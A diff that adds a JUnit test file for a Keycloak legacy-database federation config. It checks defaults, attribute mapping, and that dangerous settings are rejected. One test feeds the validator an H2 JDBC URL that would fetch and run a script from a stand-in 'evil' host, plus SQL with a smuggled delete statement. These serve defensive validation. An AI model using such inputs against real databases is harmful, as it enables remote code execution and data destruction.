@@ -1,0 +1,47 @@
+package org.ciampack.federation;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+import org.keycloak.component.ComponentModel;
+
+class LegacyStoreConfigTest {
+
+    @Test
+    void defaultsFitATypicalShopSchemaAndNeedOnlyTheUrl() {
+        LegacyStoreConfig config = LegacyStoreConfig.of(component("jdbc:postgresql://legacy:5432/shop"));
+
+        assertThat(config.problems()).isEmpty();
+        assertThat(config.columns().username()).isEqualTo("username");
+        assertThat(config.columns().password()).isEqualTo("password_hash");
+        assertThat(config.poolSize()).isEqualTo(8);
+        assertThat(config.checkPolicyAtMigration()).isTrue();
+    }
+
+    @Test
+    void urlsOfDriversThatCanRunCodeAndStatementsThatAreNotOneSelectAreRefused() {
+        assertThat(LegacyStoreConfig.of(component("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")).problems())
+                .anyMatch(problem -> problem.contains("JDBC URL"));
+        ComponentModel model = component("jdbc:mysql://legacy/shop");
+        model.put(LegacyStoreConfig.BY_USERNAME_SQL, "select * from customers where username = ?; delete from x");
+        model.put(LegacyStoreConfig.COUNT_SQL, "delete from customers where id = ?");
+        model.put(LegacyStoreConfig.POOL_SIZE, "1000");
+        assertThat(LegacyStoreConfig.of(model).problems()).hasSize(3);
+    }
+
+    @Test
+    void moreColumnsMapToAttributes() {
+        ComponentModel model = component("jdbc:mariadb://legacy/shop");
+        model.getConfig().put(LegacyStoreConfig.ATTRIBUTE_COLUMNS,
+                java.util.List.of("phone_number=phone", "loyalty_tier = tier", "broken"));
+
+        assertThat(LegacyStoreConfig.of(model).columns().attributes())
+                .containsExactlyInAnyOrderEntriesOf(java.util.Map.of("phone_number", "phone", "loyalty_tier", "tier"));
+    }
+
+    private static ComponentModel component(String url) {
+        ComponentModel model = new ComponentModel();
+        model.put(LegacyStoreConfig.JDBC_URL, url);
+        return model;
+    }
+}
